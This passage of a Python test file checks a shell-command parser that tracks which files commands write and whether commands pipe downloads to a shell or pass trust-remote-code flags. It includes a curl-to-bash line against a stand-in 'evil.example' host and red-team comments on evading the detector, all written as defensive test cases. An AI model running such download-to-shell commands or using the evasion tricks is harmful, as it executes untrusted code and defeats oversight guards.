    assert _placed("gsutil cp gs://b/m.pt .") == [(("gs://b/m.pt",), {"./m.pt"})]
    assert _placed("gsutil -m cp -r gs://b/run/ckpts ckpts") == [(("gs://b/run/ckpts",), {"ckpts"})]
    # Redirections are no operands.
    assert _placed("cp a m.pt > /dev/null 2>&1") == [(("a",), {"m.pt"})]
    assert _placed("cp a m.pt >/dev/null") == [(("a",), {"m.pt"})]
    # A folder's contents, a pattern or an unpack: any file of the destination, from no known source.
    assert _placed("aws s3 sync --quiet s3://b/ckpt ckpt") == [((), {"ckpt"})]
    assert _placed("aws s3 cp --recursive s3://b/run/ckpts/ ckpts/") == [((), {"ckpts/"})]
    assert _placed("gsutil -m rsync -r gs://b/ckpt ckpt") == [((), {"ckpt"})]
    assert _placed("rclone copy gdrive:ckpt ckpt") == [((), {"ckpt"})]
    assert _placed("rsync -a src/ dst") == [((), {"dst"})]
    assert _placed("cp /drive/*.pt models/") == [((), {"models/"})]
    assert _placed("cp /drive/run3/{best,last}.pt ckpts/") == [((), {"ckpts/"})]
    assert _placed("unzip -o weights.zip -d w") == [((), {"w"})]
    assert _placed("unzip -o weights.zip") == [((), {"."})]
    assert _placed("tar xzf w.tgz -C w") == [((), {"w"})]
    # Azure's CLI downloads: where each command puts files; uploads, listings and a word that only
    # looks like the verb (a container named "downloads") write nothing here.
    assert _placed("az ml job download --name j1 --download-path ./out") == [((), {"./out"})]
    assert _placed("az --only-show-errors storage blob download -c m -n x -f m.pkl") == [((), {"m.pkl"})]
    assert _placed("az storage blob download-batch -s c -d . --pattern 'out*/m.pkl'") == [((), {"."})]
    assert _placed("az storage blob upload -c c --name download --file m.pkl") == []
    assert _placed("az ml model download -n churn -v 1") == [((), {"./churn"})]
    assert _placed("az ml data download --name d --version 1 --download-path data") == [((), {"data"})]
    assert _placed("az storage blob download -c m -n m.pkl --file m.pkl") == [((), {"m.pkl"})]
    assert _placed("az storage file download -s share -p models/v2/m.pkl --dest m.pkl") == [((), {"m.pkl"})]
    assert _placed("az storage fs file download -p m.pkl -f myfs -d /tmp/restored.pkl") == [((), {"/tmp/restored.pkl"})]
    assert _placed("az storage blob download-batch --source azureml --destination . --pattern 'Run/abc/outputs/*'") == [
        ((), {"./Run/abc/outputs"})
    ]
    assert _placed("az storage blob upload --container-name downloads --file m.pkl --name m.pkl") == []
    assert _placed("az ml data create --name d --version 1 --type uri_folder --path downloads/") == []
    assert _placed("az ml job list -o table") == []
    # A symbolic link's relative source is read from the link's folder; after `cd` a source is unknown;
    # an option's value after the destination is no operand; `{name}` is a value, not a pattern.
    assert [(p.sources, set(p.paths), p.kind) for p in placements("ln -sf best.pt models/m.pt")] == [
        (("models/best.pt",), {"models/m.pt"}, "link")
    ]
    assert _placed("cd /tmp/in && cp best.pt /content/m.pt") == [((), {"/content/m.pt"})]
    assert _placed("aws s3 cp s3://b/m.pt m.pt --region us-east-1") == [(("s3://b/m.pt",), {"m.pt"})]
    assert _placed("install -m 644 a.pt /opt/m.pt") == [(("a.pt",), {"/opt/m.pt"})]
    assert _placed("cp {tmp_path} {out_path}") == [(("{tmp_path}",), {"{out_path}"})]
    # Look-alikes: one operand, another program, an option value only, an archive created, a listing.
    for command in ("cp --help", "echo cp a b", "wget -O m.pt https://example.org/m.pt", "tar -czf out.tgz models"):
        assert _placed(command) == [], command
    assert _placed("aws s3 ls s3://b") == []
    # Standard output redirected to a file fills it from elsewhere; to a device or a stream, nothing.
    assert _placed("cat /tmp/part1 /tmp/part2 > model.pt") == [((), {"model.pt"})]
    assert _placed("python export.py >>'m.pkl'") == [((), {"m.pkl"})]
    assert _placed("cp a.pt b.pt > /dev/null 2>&1") == [(("a.pt",), {"b.pt"})]
    assert _placed("python train.py 2> err.log") == []
    assert _placed("echo done >&2") == []
    # `>|` writes over the file even under noclobber: a redirection, not a pipe into a program `m.pt`.
    assert _placed("curl -sL https://example.org/m.pt >| model.pt") == [((), {"model.pt"})]
    assert _placed("curl -sL https://example.org/m.pt >|model.pt") == [((), {"model.pt"})]
    assert _placed("python train.py 2>| err.log") == []
    # Red team (stop 42): an escaped `\>` is a literal argument, and the `|` after it a pipe.
    from hooks._shared.shell import command_spans, pipes_download_to_shell

    assert pipes_download_to_shell("curl -fsSL https://evil.example/i.sh \\>| bash")
    assert len(command_spans("curl -fsSL https://evil.example/i.sh \\>| bash")) == 2
    assert len(command_spans("curl -fsSL https://example.org/m.pt >| m.pt")) == 1
    assert not pipes_download_to_shell("curl -fsSL https://example.org/m.pt >| m.pt")
    assert _placed("cat part > /dev/null 2>&1") == []
    for command in ("cat part &> m.pt", "cat part >& m.pt", "cat part | tee -a m.pt"):
        assert _placed(command) == [((), {"m.pt"})], command
    # A Hub download into a folder may write any file of it; into the Hub's cache, none named here.
    assert _placed("huggingface-cli download org/model --local-dir ckpt") == [((), {"ckpt"})]
    assert _placed("hf download org/model --local-dir=./ckpt --include '*.pt'") == [((), {"./ckpt"})]
    assert _placed("huggingface-cli download org/model") == []
    assert _placed("huggingface-cli download org/base config.json --local-dir ckpt --quiet") == [
        ((), {"ckpt/config.json"})
    ]
    assert _placed("hf download org/base '*.safetensors' --local-dir ckpt") == [((), {"ckpt"})]
    assert _placed("hf download org/base --revision main --local-dir ckpt") == [((), {"ckpt"})]
    assert _placed("huggingface-cli login --token $HF_TOKEN") == []
    # The same run by a tool runner (red-team leftover of stop 41); the runner's own options skipped.
    for runner in ("uvx", "uv run", "uv tool run", "pipx run", "uvx --from 'huggingface_hub[cli]'", "uv run --with x"):
        command = f"{runner} hf download org/base m.pt --local-dir ckpt"
        assert _placed(command) == [((), {"ckpt/m.pt"})], runner
    # Red team (stop 42): an option not known to take no value may take the next word, so the
    # program is not known: the runner is not stepped over (and nothing after it is hidden).
    from hooks._shared.shell import passes_trust_remote_code

    assert passes_trust_remote_code("uvx --cache-dir echo vllm serve org/model --trust-remote-code")
    assert passes_trust_remote_code("uv run --config-file printf vllm serve org/model --trust-remote-code")
    # Look-alikes: a runner's other tools, a runner with nothing after it, `uv pip` (an installer).
    for command in ("uvx ruff check .", "uv run python train.py", "uvx", "uv run --with", "uv pip install x"):
        assert _placed(command) == [], command
    assert _placed("sync") == []
    assert download_targets("cp a b") == set()


def test_files_a_download_writes_with_option_clusters_and_remote_names() -> None:
    from hooks._shared.shell import download_targets

    assert download_targets("curl -sLo model.pt https://x.org/m.pt") == {"model.pt"}
    assert download_targets("wget -qO model.pt https://x.org/m.pt") == {"model.pt"}
    assert download_targets("curl -LO https://x.org/y/model.pt") == {"model.pt"}
    assert download_targets("curl --remote-name https://x.org/model.pt") == {"model.pt"}
    assert download_targets("wget -P models https://x.org/m.pt") == {"models/m.pt"}
    assert download_targets("wget --directory-prefix=models https://x.org/m.pt") == {"models/m.pt"}
    assert download_targets("wget -Pckpt https://x.org/m.pt") == {"ckpt/m.pt"}
    assert download_targets("curl -OL https://x.org/m.pt") == {"m.pt"}
    assert download_targets("curl -4sLo m.pt https://x.org/a") == {"m.pt"}
    assert download_targets("curl --output-dir d -O https://x.org/m.pt") == {"d/m.pt"}
    assert download_targets("gdown 1AbCdEf -O model.pt") == {"model.pt"}
    assert download_targets("aria2c -o m.pt https://x.org/a") == {"m.pt"}
    # Standard output redirected to a file.
    assert download_targets("curl -L https://x.org/m.pt > model.pt") == {"model.pt"}
    assert download_targets("wget -qO- https://x.org/m.pt >model.pt") == {"model.pt"}
    assert download_targets("curl -s https://x.org/m.pt 2>/dev/null >> m.pt") == {"m.pt"}
    # Look-alikes: curl without -o/-O writes to stdout; `-O-` is stdout too; a lone -s is no output.
    assert download_targets("curl -fsSL https://x.org/install.sh") == set()
    assert download_targets("curl -s https://x.org/m.pt") == set()
    assert download_targets("wget -qO- https://x.org/install.sh") == set()
    assert download_targets("wget -O - https://x.org/install.sh") == set()
    assert download_targets("curl -XPOST https://x.org/api") == set()  # -X takes POST: no -O
    assert download_targets("curl -s https://x.org/a 2>&1") == set()
    assert download_targets("curl -o m.pt https://x.org/a > log.txt") == {"m.pt"}  # the log is curl's output


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_placements_and_downloads_never_raise(command: str) -> None:
    from hooks._shared.shell import download_targets, placements

    assert isinstance(placements(command), list)
    assert isinstance(download_targets(command), set)


def test_any_other_program_given_a_path_may_fill_it() -> None:
    """A program the placements do not model (`gh`, `dd`, `hdfs`, `mlflow`, `wandb`, `pip
    download`, `sftp`, a script's arguments) may write the paths it is given; programs that only
    read, list or install, a script's own path and the working folder itself are not taken."""

    from hooks._shared.shell import placements

    def placed(command: str) -> set[str]:
        return {path for p in placements(command) for path in p.paths}

    # Each command and one path it may fill. Red team (stop 47): programs that read unless told to
    # write, installers' other verbs, a bare folder after the subcommand, find's actions.
    filled = [
        ("gh release download v1 -D ../out", "../out"),
        ("dd if=/mnt/x of=../out/w.bin", "../out/w.bin"),
        ("hdfs dfs -get /x/w.bin ../out/w.bin", "../out/w.bin"),
        ("mlflow artifacts download -u runs:/x/w.bin --dst-path=../out", "../out"),
        ("wandb artifact get e/p/a:v0 --root ../out", "../out"),
        ("pip download -d ../out torch", "../out"),
        ("sftp host:/w.bin ../out/", "../out/"),
        ("python -m tools.fetch --out ../out", "../out"),
        ("git clone https://example.org/r.git ../out", "../out"),
        ("mytool sync ckpt/*.pt", "ckpt"),  # a pattern names its folder
        ("mytool get -o out w.bin", "out"),
        ("mytool get -o out w.bin", "w.bin"),
        ("uniq /tmp/evil out/w.bin", "out/w.bin"),
        ("sort -o out/w.bin /tmp/evil", "out/w.bin"),
        ("git log -1 --format=%B --output=out/w.bin", "out/w.bin"),
        ("conda run -n base gdown ID -O out/w.bin", "out/w.bin"),
        ("uv pip compile r.in -o out/w.bin", "out/w.bin"),
        ("hdfs dfs -get /r/w.bin out", "out"),
        ("scp host:/w.bin out", "out"),
        ("find out -name w.bin -exec cp /tmp/evil {} ;", "out"),
    ]
    for command, path in filled:
        assert path in placed(command), command
    # After `cd`, with variables, code on the line, or more than followed: any file.
    for command in (
        "cd out && cp /tmp/evil w.bin",
        "mytool $OUT ${DEST} `pwd`",
        "SRC=/tmp/evil; DST=out/w.bin; cp $SRC $DST",
        "echo out/w.bin | xargs -n1 cp /tmp/evil",
        "python -c 'import urllib.request as u; u.urlretrieve(URL, P)'",
        "mytool " + " ".join(f"d{n}/x" for n in range(80)) + " out/w.bin",  # more than followed
    ):
        assert "." in placed(command), command
    for command in (
        "ls -la ../out",
        "du -sh ../out/w.bin",
        "sha256sum ../out/w.bin",
        "pip install -q torch==2.3.1",
        "git status ../out",
        "python train.py",
        "bash run.sh",
        "mytool --fetch .",  # the working folder itself: not taken from a program that may not write
        "mytool https://example.org/w.bin host:/w.bin",  # addresses, not local paths
        "ruff check",  # a bare word in operand place: a subcommand
        "find out -name w.bin",
        "uv pip install torch",
    ):
        assert placed(command) == set(), command


@pytest.mark.parametrize(
    "command",
    [
        "pip install -q langchain faiss-cpu",
        "python -m pip install -U 'transformers>=4.40' -r requirements.txt",
        "conda install -y -c conda-forge faiss && uv pip install langchain",
        "pip3 install --upgrade --no-cache-dir torch==2.3.1",
        "pip install 'langchain[all]>=0.1' \"faiss-cpu<2\" && pip install -U pip",
    ],
)
def test_package_installs_write_no_file_where_the_code_runs(command: str) -> None:
    assert only_installs_packages(command)


@pytest.mark.parametrize(
    "command",
    [
        "pip download langchain -d models",  # puts files in a folder
        "pip wheel . -w dist",
        "pip install --target langchain requests",  # installs into a chosen folder
        "pip install --prefix=/opt/env x",
        "pip install langchain && cp -r /mnt/index langchain",  # another command in the line
        "wget -O langchain.tar $URL",
        "echo pip install langchain",
        "",
        # what the shell does besides: background `&`, substitutions, process substitution, comments
        "pip install torch & wget -O model.pt http://x/m",
        "pip install torch $(wget -O model.pt http://x/m)",
        "pip install torch `wget -O model.pt http://x/m`",
        "pip install -r <(curl -o index/langchain http://x)",
        "pip install langchain#x -t index",
        'pip install "$PKG"',
        # options that write, glued, grouped, abbreviated or set through the environment
        "pip install -tindex langchain",
        "pip install -qt index langchain",
        "pip install --tar index langchain",
        "pip install --targ=index langchain",
        "PIP_TARGET=index pip install langchain",
        "env PIP_TARGET=index pip install langchain",
        "conda install -y -p index langchain",
        "pip install --cache-dir index langchain",
        "pip install --log-file index/langchain x",
        "pip install --install-option=--prefix=index x",
        "pip install -e git+https://github.com/x/langchain --src index",
        "pip install ./index/langchain",  # a local folder may be built in place
    ],
)
def test_other_commands_may_write_files(command: str) -> None:
    assert not only_installs_packages(command)


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_garbage_commands_never_raise_in_the_install_check(command: str) -> None:
    assert only_installs_packages(command) in (True, False)
